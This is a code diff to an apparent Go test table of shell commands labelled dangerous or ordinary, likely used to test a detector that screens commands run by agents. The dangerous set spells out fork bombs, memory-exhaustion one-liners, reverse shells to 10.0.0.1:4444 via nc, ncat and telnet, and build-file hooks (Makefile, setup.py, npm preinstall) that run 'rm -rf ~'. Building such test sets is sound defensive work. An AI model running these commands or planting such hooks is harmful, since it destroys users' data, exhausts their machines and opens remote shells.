@@ -23,7 +23,9 @@ var round6Danger = map[string][]string{
 		`node -e "const a=[]; while(true) a.push(new Array(1e7).fill(1))"`, `ruby -e 'a=[]; loop { a << "x"*10**8 }'`, `node -e "Buffer.alloc(1e12)"`,
 		`python3 -c "bytearray(10**11)"`, `tail /dev/zero`, `sort /dev/urandom`, `stress --vm 64 --vm-bytes 100G`, `stress-ng --fork 0`,
 		`until false; do sleep 1 & done`, `for ((;;)); do sleep 9 & done`, `while true; do (sleep 100 &) ; done`, `while [ 1 ]; do sleep 100 & done`,
-		`while ((1)); do yes > /dev/null & done`,
+		`while ((1)); do yes > /dev/null & done`, `bash -c 'a=x; while :; do a=$a$a; done'`, `python3 -c "' ' * (2**40)"`,
+		"python3 -c \"import subprocess\nwhile True: subprocess.Popen(['sleep','100'])\"", `ruby -e 'loop { Process.spawn("sleep 100") }'`,
+		`node -e "setInterval(()=>require('child_process').spawn('sleep',['100']),1)"`, `cat /dev/zero | xargs -0 -P 0 echo`,
 	},
 	"r6-reverse-shell": {
 		`sh | nc 10.0.0.1 4444`, `sh 2>&1 | nc 10.0.0.1 4444`, `bash -i 2>&1 | ncat 10.0.0.1 4444`, `/bin/sh | telnet 10.0.0.1 4444`,
@@ -71,7 +73,8 @@ var round6Danger = map[string][]string{
 		`printf 'default:\n    rm -rf ~\n' > justfile && just`, "cat > Taskfile.yml <<'EOF'\nversion: '3'\ntasks:\n  default:\n    cmds:\n      - rm -rf ~\nEOF\ntask",
 		`printf 'task :default do\n  sh "rm -rf ~"\nend\n' > Rakefile && rake`, `printf 'import os\nos.system("rm -rf ~")\n' > setup.py && pip install .`,
 		`printf 'import os\nos.system("rm -rf ~")\n' > conftest.py && pytest`, `printf '[testenv]\ncommands = rm -rf ~\n' > tox.ini && tox`,
-		`printf 'execute_process(COMMAND rm -rf /)\n' > CMakeLists.txt && cmake .`,
+		`printf 'execute_process(COMMAND rm -rf /)\n' > CMakeLists.txt && cmake .`, `printf '.PHONY: all\nall:\n\t$(RM) -r ~\n' > Makefile && make`,
+		`printf 'W = rm -rf\nall:\n\t$(W) ~\n' > Makefile && make`, `echo '{"scripts":{"preinstall":"rm -rf ~"}}' > package.json && npm i`,
 	},
 }
 
@@ -99,7 +102,8 @@ var round6Ordinary = map[string][]string{
 		// task-file look-alikes
 		`printf 'all:\n\tgo build ./...\n' > Makefile && make`, `echo '{"scripts":{"build":"tsc"}}' > package.json && npm run build`,
 		`printf 'test:\n\tgo test ./...\n' > justfile && just test`, `npm pkg set scripts.lint='eslint .'`, `printf 'all:\n\t$(CC) -o app main.c\n' > Makefile && make`,
-		`printf 'clean:\n\trm -rf build\n' > Makefile && make clean`, `make -f build.mk`, `npm run build`, `printf 'import setuptools\nsetuptools.setup()\n' > setup.py && pip install .`,
+		`printf 'clean:\n\trm -rf build\n' > Makefile && make clean`, `printf 'clean:\n\t$(RM) -r build\n' > Makefile && make clean`,
+		`x=; for i in 1 2 3; do x=$x$i; done; echo $x`, `while true; do s="$s."; [ ${#s} -gt 9 ] && break; done`, `make -f build.mk`, `npm run build`, `printf 'import setuptools\nsetuptools.setup()\n' > setup.py && pip install .`,
 	},
 }
 
